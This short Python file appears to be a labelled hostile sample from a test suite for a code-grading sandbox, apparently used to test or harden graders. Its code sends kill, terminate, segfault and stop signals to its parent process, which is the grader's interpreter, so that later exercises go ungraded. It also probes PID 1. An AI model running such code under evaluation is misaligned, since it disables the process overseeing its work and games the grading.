# class: processes
# harm: kills its parent, which is the grader's interpreter
# shown: the next exercise would not be graded
# score: 3
# unprotected: no grader left

import os
import signal


for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSEGV, signal.SIGSTOP):
    try:
        os.kill(os.getppid(), number)
    except OSError:
        pass
try:
    os.kill(1, 0)
except OSError:
    pass


def fork_once(in_child, in_parent):
    pid = os.fork()
    if pid == 0:
        try:
            in_child()
        finally:
            os._exit(0)
    in_parent(pid)
    os.waitpid(pid, 0)
